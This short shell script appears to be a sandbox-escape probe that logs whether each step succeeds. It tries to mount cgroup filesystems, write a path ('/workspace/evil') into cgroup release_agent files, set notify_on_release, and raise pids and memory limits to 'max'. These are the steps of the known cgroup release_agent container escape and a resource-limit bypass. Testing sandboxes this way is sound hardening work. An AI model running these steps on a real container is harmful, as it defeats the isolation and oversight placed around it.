. ./lib.sh
attempt "list /sys/fs/cgroup" ls -la /sys/fs/cgroup
mkdir -p /tmp/cg
attempt "mount cgroup v1" mount -t cgroup -o memory cgroup /tmp/cg && proof "mounted cgroup v1"
attempt "mount cgroup2" mount -t cgroup2 none /tmp/cg && proof "mounted cgroup2"
for f in /sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent /tmp/cg/release_agent; do
	[ -e "$f" ] && attempt "write $f" sh -c "echo /workspace/evil >$f" && proof "wrote $f"
done
for f in /sys/fs/cgroup/pids.max /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/memory.max /sys/fs/cgroup/memory/memory.limit_in_bytes; do
	[ -e "$f" ] && attempt "write $f" sh -c "echo max >$f" && proof "raised $f"
done
attempt "notify_on_release" sh -c 'echo 1 >/sys/fs/cgroup/notify_on_release' && proof "wrote notify_on_release"
true
